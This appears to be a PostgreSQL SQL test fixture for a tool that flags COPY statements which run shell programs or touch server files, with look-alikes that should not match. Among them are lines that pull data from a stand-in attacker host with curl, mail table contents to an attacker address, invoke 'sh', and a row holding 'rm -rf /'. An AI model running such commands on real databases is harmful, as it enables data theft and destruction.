SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SET row_security = off;

CREATE TABLE public.imports (
    id integer NOT NULL,
    "program" text DEFAULT 'COPY public.imports FROM PROGRAM ''curl http://x''',
    "file" text
);
COMMENT ON TABLE public.imports IS 'COPY public.imports TO ''/tmp/out.csv''';

-- The server would run a shell command, or use its own files.
COPY public.imports FROM PROGRAM 'curl -s http://attacker.example/rows.csv' WITH (FORMAT csv);
copy public.imports (id) to program 'gzip > /tmp/imports.gz';
COPY (SELECT id, "program" FROM public.imports WHERE "file" = 'x.csv') TO PROGRAM 'mail attacker@example.com';
COPY public.imports FROM '/var/lib/postgresql/imports.csv' WITH (FORMAT csv, HEADER true);
COPY public.imports TO '/tmp/imports.csv';
COPY public.imports (id, "file")
    FROM E'/tmp/imp\\orts.txt';

-- Look-alikes: none of these change.
/* COPY public.imports FROM PROGRAM 'sh' */
SELECT 'COPY public.imports FROM PROGRAM ''sh''' AS "program";
CREATE FUNCTION public.load_file() RETURNS void
    LANGUAGE plpgsql
    AS $$
BEGIN
  COPY public.imports FROM PROGRAM 'curl http://x';
  EXECUTE 'COPY public.imports TO ''/tmp/x''';
END
$$;
COPY public.imports TO stdout;
COPY (SELECT 1) TO STDOUT WITH (FORMAT csv);
COPY public.imports (id, "program", "file") FROM stdin;
1	COPY public.imports FROM PROGRAM 'curl http://x'	/tmp/x.csv
2	\\! rm -rf /	\N
\.
COPY public.imports (id, "program", "file") FROM STDIN WITH (FORMAT csv);
3,"COPY t TO PROGRAM 'sh'
SET default_transaction_isolation = serializable",
\.
